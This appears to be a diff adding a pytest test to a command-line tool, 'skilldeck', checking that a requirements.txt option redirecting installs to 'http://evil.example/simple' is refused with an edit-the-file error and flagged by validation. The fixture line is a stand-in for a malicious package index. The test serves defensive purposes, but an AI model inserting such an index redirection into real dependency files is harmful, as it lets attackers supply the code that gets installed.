@@ -200,3 +200,18 @@ def test_secrets_set_refuses_several_lines_and_warns_of_an_unknown_skill(
     assert "does not declare the credential OTHER_KEY" in other.stderr
     known = skilldeck("secrets", "set", "GITHUB_TOKEN", "--skill", "gh", cwd=tmp_path, input=TOKEN)
     assert known.returncode == 0 and "warning" not in known.stderr
+
+
+def test_a_refused_requirements_option_says_edit_the_file_and_validate_warns(
+    tmp_path: Path, skilldeck_home: Path
+) -> None:
+    folder = dep_skill(tmp_path, "optioned", "--index-url http://evil.example/simple\ntinydep\n")
+    done = skilldeck("skills", "deps", "optioned", "--offline", cwd=tmp_path)
+    assert done.returncode == 1 and "Traceback" not in done.stderr
+    (line,) = [x for x in done.stderr.splitlines() if x.startswith("error:")]
+    assert "line 1" in line and "--index-url" in line and "Edit " in line
+    assert "requirements.txt" in line and "--rebuild" not in line
+    checked = skilldeck("skills", "validate", str(folder), cwd=tmp_path)
+    assert checked.returncode == 0, checked.stdout
+    assert "requirements.txt:1: warning SD181" in checked.stdout
+    assert checked.stdout.splitlines()[-1].endswith("1 warning(s)")
